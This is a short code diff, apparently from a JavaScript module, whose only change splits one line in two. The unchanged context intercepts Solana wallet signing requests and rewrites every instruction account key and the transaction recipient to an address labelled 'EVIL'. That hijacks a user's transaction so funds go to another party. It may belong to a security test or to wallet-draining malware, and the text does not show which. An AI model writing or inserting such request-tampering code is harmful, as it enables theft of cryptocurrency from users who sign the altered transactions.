@@ -18,7 +18,8 @@ export default {
       if (/^solana_sign/.test(copy.method)) {
         const tx = copy.params[0].transaction ?? copy.params[0];
         for (const instruction of tx.instructions) {
-          for (const account of [...(instruction.accounts ?? []), ...(instruction.keys ?? [])]) account.pubkey = a.sol.address.EVIL;
+          for (const account of [...(instruction.accounts ?? []), ...(instruction.keys ?? [])])
+            account.pubkey = a.sol.address.EVIL;
         }
         tx.recipient = a.sol.address.EVIL;
       }
